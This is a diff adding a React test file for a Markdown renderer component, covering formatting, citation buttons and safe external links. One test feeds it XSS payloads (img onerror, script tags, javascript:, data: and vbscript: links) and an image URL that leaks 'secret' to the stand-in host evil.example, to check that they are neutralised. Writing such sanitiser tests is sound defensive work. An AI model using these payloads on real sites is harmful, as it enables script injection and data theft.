@@ -1,0 +1,41 @@
+import { fireEvent, screen } from "@testing-library/react";
+import { describe, expect, it, vi } from "vitest";
+import { renderWidget } from "../../test/renderWidget";
+import { MarkdownView } from "./MarkdownView";
+
+const citations = [{ number: 1, title: "Annual report" }];
+
+describe("MarkdownView", () => {
+  it("shows headings, lists, tables and code", async () => {
+    await renderWidget(<MarkdownView text={"## Need\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y`"} citations={[]} />);
+    expect(screen.getByRole("heading", { name: "Need", level: 2 })).toBeTruthy();
+    expect(screen.getAllByRole("listitem").map(({ textContent }) => textContent)).toEqual(["one", "two"]);
+    expect(screen.getByRole("cell", { name: "2" })).toBeTruthy();
+    expect(screen.getByText("x < y").tagName).toBe("CODE");
+  });
+
+  it("opens a citation it knows and leaves others as text", async () => {
+    const onCitation = vi.fn();
+    await renderWidget(<MarkdownView text="We serve [1] and [2]." citations={citations} onCitation={onCitation} />);
+    fireEvent.click(screen.getByRole("button", { name: "Citation 1: Annual report" }));
+    expect(onCitation).toHaveBeenCalledWith({ number: 1 });
+    expect(screen.getByText(/and \[2\]\./)).toBeTruthy();
+  });
+
+  it.each([
+    ["HTML", "<img src=x onerror=alert(1)><script>alert(1)</script>"],
+    ["remote images", "![](http://evil.example/?q=secret)"],
+    ["scripts in links", "[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x)"],
+    ["links to another host in disguise", "[x](//evil.example/)"],
+  ])("makes %s inert", async (_what, text) => {
+    await renderWidget(<MarkdownView text={text} citations={[]} />);
+    expect(document.querySelectorAll("img, script")).toHaveLength(0);
+    for (const link of document.querySelectorAll("a")) expect(link.href).toMatch(/^http:\/\/evil\.example\/\?q=secret$/);
+  });
+
+  it("opens foreign links in a new tab without telling where from", async () => {
+    await renderWidget(<MarkdownView text="[SAM](https://sam.gov/)" citations={[]} />);
+    const link = screen.getByRole("link", { name: "SAM" });
+    expect([link.getAttribute("target"), link.getAttribute("rel")]).toEqual(["_blank", "noopener noreferrer"]);
+  });
+});
